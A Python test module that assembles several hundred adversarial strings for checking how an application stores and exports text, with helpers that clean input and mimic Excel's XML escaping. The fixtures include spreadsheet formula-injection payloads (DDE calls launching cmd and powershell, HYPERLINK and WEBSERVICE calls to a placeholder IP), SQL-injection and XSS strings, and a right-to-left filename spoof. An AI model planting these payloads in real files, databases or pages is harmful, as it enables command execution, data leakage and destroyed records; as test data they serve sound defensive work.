"""A6, A8, A9: three hundred texts that are more than text to somebody: to a spreadsheet, to XML,
to a database, to a web page, to the eye.
"""

from __future__ import annotations

import re
import unicodedata
from itertools import product

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "'=",
    '"=',
    "%=",
    "|=",
)
_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/"&A1,"here")',
    "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(\"http://192.0.2.1\",\"//a\")",
    "SUM(A1:A9)*cmd|'/C powershell'!A0", "WEBSERVICE(\"http://192.0.2.1\")",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
)  # fmt: skip
_CONTROLS = (
    *(f"be{chr(code)}fore" for code in (*range(1, 32), 127, *range(128, 160))),
    *(f"be{mark}fore" for mark in "\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2069"),
    *(f"be{mark}fore" for mark in "\ufeff\ufffe\uffff\ufdd0\u00ad\u2028\u2029\u2060\ufff9\u0085"),
    "\ud800", "\udfff half", "a\ud83db", "a\x00b", "\u202eexe.slx", "\u2066a\u2069\u2067b",
)  # fmt: skip
_ESCAPES = (
    "_x0041_", "_x000D_", "_x0000_", "_xD800_", "_xFFFE_", "_x0041", "x0041_",
    "_x00e9_", "__x0041__", "_X0041_", "_x0041_=1+1", "_x003D_1+1",
)  # fmt: skip
_QUERIES = (
    "O'Brien", 'the "one"', "NEAR(", "NEAR(a b, 5)", "100%", "a_b", "%", "_", "*", "name:x",
    "a AND b",
    "OR", "NOT x", "^a", "a*", "(", ")", "a-b", '"', "''", "'; DROP TABLE delegate; --", "1 OR 1=1",
    "\\", "\\'", "[a-z]", "?", "{x}", "a\\%b", "x' AND 'x'='x", "UNION SELECT 1", "a;b", "--",
    "/*x*/",
    ":name", "$1", "@p", "#1", "`id`", "NULL", "null", "None", "nan", "Infinity", "true", "False",
)  # fmt: skip
_MARKUP = (
    "<b>bold</b>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "&lt;b&gt;",
    "&amp;",
    "&#60;", "<!-- -->", "]]>", "<![CDATA[x]]>", "<!DOCTYPE x>", "<?xml version='1.0'?>",
    "<f>1</f>",
    "</t></is></c><c><f>1+1</f></c>", "</si><si><t>x", "<a href='file://host/share/x'>x</a>",
    "a<b>c",
    "&bogus;", "& Co", "{{ x }}", "{% for %}", "${x}", "#{x}", "%s%n", "{0}", "\\u0041", "&P of &N",
    '&"Arial"&20big', "&C&8x", "%(x)s",
)  # fmt: skip
_OTHERS = (
    "https://example.org/x", "mailto:a@example.org", "file://host/share/x", "\\\\host\\share\\x",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "00123", "1E5", "12345678901234567890", "1/2",
    "3-4",
    "2025-08-06", "12:30", "TRUE", "1,234.5", "€ 5", "+79161234567", "' leading", "trailing '",
    "x" * 255, "x" * 256, "x" * 8191, "y" * 32_000, "\U0001f600" * 3, "e\u0301", "é", "ﬁ", "ǆ",
    "İı",
    "ß", "ՙ", "क्षत्रिय", "ज्\u200dञ", "می\u200cخواهم", "文字", "\u3000wide\u3000",
    "\u00a0hard\u00a0",
    "line\nbreak", "a\r\nb", "tab\there", "many     blanks", "Zoe\u0308", "\u0301alone",
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(start + formula for start, formula in product(_STARTS, _FORMULAS)),
            *_CONTROLS, *_ESCAPES, *_QUERIES, *_MARKUP, *_OTHERS,
        )
    )
)  # fmt: skip

TOO_LONG = ("z" * 32_768, "\U0001f600" * 20_000, "w" * 100_000)

_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
NO_TEXT = re.compile(
    "[\x00-\x08\x0e-\x1b\x1f\x7f-\x84\x86-\x9f\xad\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f"
    "\ud800-\udfff\ufdd0-\ufdef\ufeff\ufff9-\ufffb\ufffe\uffff]"
)
_BREAK = re.compile("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")


def cleaned(text: str) -> str:
    """What is said to become of a text that is typed or taken in: what no text holds is left out,
    line breaks and tabs become blanks, and nothing is left at its ends.
    """
    return NO_TEXT.sub("", _BREAK.sub(" ", text).replace("\t", " ")).strip()


def level(text: str) -> str:
    """A text without what layout may change: white space single, letters composed."""
    return " ".join(unicodedata.normalize("NFC", cleaned(text)).split())


def as_excel_writes_it(text: str) -> str:
    """A text of a cell as it stands in the XML: what XML has no letter for is written _x0001_."""

    def escaped(found: re.Match[str]) -> str:
        return f"_x{ord(found.group()):04X}_"

    text = _ESCAPE.sub(r"_x005F_x\1_", text)
    return re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", escaped, text)
